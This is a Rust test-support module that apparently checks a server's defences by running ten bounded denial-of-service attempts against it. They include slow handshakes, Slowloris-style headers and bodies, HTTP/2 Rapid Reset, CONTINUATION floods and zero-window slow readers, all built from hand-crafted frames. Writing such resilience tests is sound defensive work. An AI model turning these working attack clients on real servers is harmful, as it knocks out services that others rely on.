//! Clients that mean no good, each as one bounded attempt.
//!
//! All but the silent socket have a proper certificate: what they do wrong comes after
//! the handshake. Frames are written by hand, for no HTTP library would.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use rustls::ClientConfig;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

use super::Protocol;

/// How long an attempt goes on at the most. Only against a host without limits.
const PATIENCE: Duration = Duration::from_secs(30);

/// Requests of one connection at the same time: as many as a host takes by default.
const STREAMS: u32 = 100;

/// Between two drops of something slow.
const DRIP: Duration = Duration::from_millis(100);

/// One kind of attempt.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// A socket that begins a ClientHello and never ends it.
    SlowHandshake,
    /// An HTTP/1.1 head that comes a byte at a time.
    SlowHeaders,
    /// A body that comes a byte at a time.
    SlowBody,
    /// A hundred requests on one HTTP/2 connection, of whose bodies a byte comes.
    SlowStreams,
    /// HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487).
    RapidReset,
    /// HTTP/2 header blocks without an end (CVE-2024-27316).
    HeaderFlood,
    /// An HTTP/2 head whose CONTINUATION comes a byte at a time.
    UnfinishedHead,
    /// A hundred large answers on one HTTP/2 connection, with no window for any of them.
    SlowReader,
    /// A socket that says nothing at all.
    ConnectionFlood,
    /// A connection that is made and kept, with nothing on it but a first answer.
    Hoard,
}

/// How an attempt ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Ended {
    /// There was no connection to begin with.
    Outside,
    /// The host closed the connection.
    Closed,
    /// The host sent GOAWAY with this error code (RFC 9113 section 7), and closed.
    GoAway(u32),
    /// The host answered with this status.
    Answered(u16),
    /// The host put up with it.
    Endured,
}

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const INITIAL_WINDOW_SIZE: u8 = 4;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const GET: u8 = 0x82;
const POST: u8 = 0x83;

// === impl Attack ===

impl Attack {
    /// All of them.
    pub const ALL: [Self; 10] = [
        Self::SlowHandshake,
        Self::SlowHeaders,
        Self::SlowBody,
        Self::SlowStreams,
        Self::RapidReset,
        Self::HeaderFlood,
        Self::UnfinishedHead,
        Self::SlowReader,
        Self::ConnectionFlood,
        Self::Hoard,
    ];

    /// Whether the limit that it is about ends it like this.
    pub fn is_met_by(self, ended: &Ended) -> bool {
        match self {
            Self::SlowBody => *ended == Ended::Answered(408),
            // ENHANCE_YOUR_CALM, where the reset of the socket did not overtake it.
            Self::RapidReset => matches!(ended, Ended::GoAway(11) | Ended::Closed),
            Self::HeaderFlood => matches!(ended, Ended::GoAway(_) | Ended::Closed),
            // NO_ERROR: the host goes, and hangs up on who stays.
            Self::SlowReader => matches!(ended, Ended::GoAway(0) | Ended::Closed),
            Self::SlowHandshake
            | Self::SlowHeaders
            | Self::UnfinishedHead
            | Self::ConnectionFlood => *ended == Ended::Closed,
            // Limits of their sender's share: some are turned away, others are answered.
            Self::SlowStreams | Self::Hoard => true,
        }
    }

    /// Try it once, to its end, against the host at `address` as a client with this TLS.
    pub async fn attempt(self, address: SocketAddr, tls: &ClientConfig) -> Ended {
        let attempt = async {
            match self {
                Self::SlowHandshake => silent(address, &[22, 3, 1, 1, 0, 1, 0]).await,
                Self::ConnectionFlood => silent(address, &[]).await,
                Self::Hoard => {
                    let head = b"GET /.well-known/jwks.json HTTP/1.1\r\nhost: localhost\r\n\r\n";
                    drip(address, tls, Protocol::Http1, head, b"").await
                }
                Self::SlowHeaders => {
                    let head =
                        b"GET /.well-known/jwks.json HTTP/1.1\r\nhost: localhost\r\nx-slow: ";
                    drip(address, tls, Protocol::Http1, head, b"a").await
                }
                Self::SlowBody => {
                    let head = b"POST /v1/authentications HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n{";
                    drip(address, tls, Protocol::Http1, head, b"a").await
                }
                Self::SlowStreams => slow_streams(address, tls).await,
                Self::RapidReset => {
                    let frames = (0..20_000_u32).map(|number| {
                        let stream = 2 * number + 1;
                        let mut pair = frame(HEADERS, END_STREAM | END_HEADERS, stream, &request());
                        pair.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                        pair
                    });
                    flood(address, tls, frames).await
                }
                Self::UnfinishedHead => {
                    let mut begun = PREFACE.to_vec();
                    begun.extend(frame(SETTINGS, 0, 0, &[]));
                    begun.extend(frame(HEADERS, END_STREAM, 1, &request()));
                    // Announced, of which a byte comes now and then.
                    begun.extend(&frame(CONTINUATION, END_HEADERS, 1, &[0; 16_000])[..9]);
                    drip(address, tls, Protocol::Http2, &begun, b"a").await
                }
                Self::SlowReader => {
                    let shut = frame(SETTINGS, 0, 0, &[0, INITIAL_WINDOW_SIZE, 0, 0, 0, 0]);
                    let requests = (0..STREAMS).map(|number| {
                        let stream = 2 * number + 1;
                        frame(HEADERS, END_STREAM | END_HEADERS, stream, &large())
                    });
                    flood(address, tls, [shut].into_iter().chain(requests)).await
                }
                Self::HeaderFlood => {
                    let first = frame(HEADERS, END_STREAM, 1, &request());
                    let more = std::iter::repeat_with(|| frame(CONTINUATION, 0, 1, &field()));
                    flood(address, tls, [first].into_iter().chain(more.take(4_000))).await
                }
            }
        };
        tokio::time::timeout(PATIENCE, attempt)
            .await
            .unwrap_or(Ended::Endured)
    }
}

/// Bytes, and then nothing.
async fn silent(address: SocketAddr, bytes: &[u8]) -> Ended {
    let Ok(mut socket) = TcpStream::connect(address).await else {
        return Ended::Outside;
    };
    let _ = socket.write_all(bytes).await;
    let mut answer = Vec::new();
    let _ = socket.read_to_end(&mut answer).await;
    Ended::Closed
}

/// A head, and then a byte now and then, until the host has enough.
async fn drip(
    address: SocketAddr,
    tls: &ClientConfig,
    protocol: Protocol,
    head: &[u8],
    drop: &[u8],
) -> Ended {
    let Some(stream) = connect(address, tls, protocol).await else {
        return Ended::Outside;
    };
    let (mut reads, mut writes) = tokio::io::split(stream);
    let dripping = async {
        if writes.write_all(head).await.is_ok() {
            while writes.write_all(drop).await.is_ok() && writes.flush().await.is_ok() {
                tokio::time::sleep(DRIP).await;
            }
        }
        std::future::pending::<()>().await;
    };
    let mut answer = Vec::new();
    tokio::select! {
        () = dripping => {}
        _ = reads.read_to_end(&mut answer) => {}
    }
    let answer = String::from_utf8_lossy(&answer);
    match answer
        .strip_prefix("HTTP/1.1 ")
        .and_then(|rest| rest.get(..3))
    {
        Some(status) => Ended::Answered(status.parse().expect("a status")),
        None => Ended::Closed,
    }
}

/// As many requests as one connection carries, until each has its answer.
async fn slow_streams(address: SocketAddr, tls: &ClientConfig) -> Ended {
    let Some(stream) = connect(address, tls, Protocol::Http2).await else {
        return Ended::Outside;
    };
    let (mut reads, mut writes) = tokio::io::split(stream);
    let mut bytes = PREFACE.to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    for number in 0..STREAMS {
        let stream = 2 * number + 1;
        bytes.extend(frame(HEADERS, END_HEADERS, stream, &begin()));
        bytes.extend(frame(DATA, 0, stream, b"{"));
    }
    if writes.write_all(&bytes).await.is_err() || writes.flush().await.is_err() {
        return Ended::Closed;
    }
    let mut answered = 0;
    while answered < STREAMS {
        let mut head = [0; 9];
        if reads.read_exact(&mut head).await.is_err() {
            return Ended::Closed;
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        let mut payload = vec![0; length];
        if reads.read_exact(&mut payload).await.is_err() || head[3] == GOAWAY {
            return Ended::Closed;
        }
        answered += u32::from(head[3] == HEADERS);
    }
    Ended::Endured
}

/// Frames, as fast as the host takes them.
async fn flood(
    address: SocketAddr,
    tls: &ClientConfig,
    frames: impl Iterator<Item = Vec<u8>>,
) -> Ended {
    let Some(stream) = connect(address, tls, Protocol::Http2).await else {
        return Ended::Outside;
    };
    let (mut reads, mut writes) = tokio::io::split(stream);
    let writing = async {
        let mut bytes = PREFACE.to_vec();
        bytes.extend(frame(SETTINGS, 0, 0, &[]));
        for one in frames {
            bytes.extend(one);
            if bytes.len() > 16 * 1024 {
                if writes.write_all(&bytes).await.is_err() || writes.flush().await.is_err() {
                    break;
                }
                bytes.clear();
            }
        }
        let _ = writes.write_all(&bytes).await;
        let _ = writes.flush().await;
        false
    };
    let reading = async {
        let mut goaway = None;
        loop {
            let mut head = [0; 9];
            if reads.read_exact(&mut head).await.is_err() {
                return goaway;
            }
            let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let mut payload = vec![0; length];
            if reads.read_exact(&mut payload).await.is_err() {
                return goaway;
            }
            if head[3] == GOAWAY && length >= 8 {
                let code = [payload[4], payload[5], payload[6], payload[7]];
                goaway = Some(u32::from_be_bytes(code));
            }
        }
    };
    let (_, goaway) = tokio::join!(writing, reading);
    goaway.map_or(Ended::Closed, Ended::GoAway)
}

async fn connect(
    address: SocketAddr,
    tls: &ClientConfig,
    protocol: Protocol,
) -> Option<TlsStream<TcpStream>> {
    let mut config = tls.clone();
    config.alpn_protocols = protocol.alpn();
    let socket = TcpStream::connect(address).await.ok()?;
    let name = ServerName::try_from("localhost").expect("a name");
    TlsConnector::from(Arc::new(config))
        .connect(name, socket)
        .await
        .ok()
}

/// A frame of RFC 9113 section 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a short payload");
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// `GET /.well-known/jwks.json`.
fn request() -> Vec<u8> {
    head(GET, "/.well-known/jwks.json")
}

/// `GET /openapi.json`, the largest answer.
fn large() -> Vec<u8> {
    head(GET, "/openapi.json")
}

/// `POST /v1/authentications`.
fn begin() -> Vec<u8> {
    head(POST, "/v1/authentications")
}

/// A head by HPACK's static table (RFC 7541 appendix A).
fn head(method: u8, path: &str) -> Vec<u8> {
    let length = u8::try_from(path.len()).expect("a short path");
    let mut block = vec![method, 0x87, 0x04, length];
    block.extend(path.as_bytes());
    block.extend([0x01, 9]);
    block.extend(b"localhost");
    block
}

/// A field of a kilobyte, never indexed.
fn field() -> Vec<u8> {
    let mut block = vec![0x10, 6];
    block.extend(b"x-many");
    // 1000 as an integer with a prefix of 7 bits (RFC 7541 section 5.1).
    block.extend([0x7f, 0xe9, 0x06]);
    block.extend([b'a'; 1000]);
    block
}
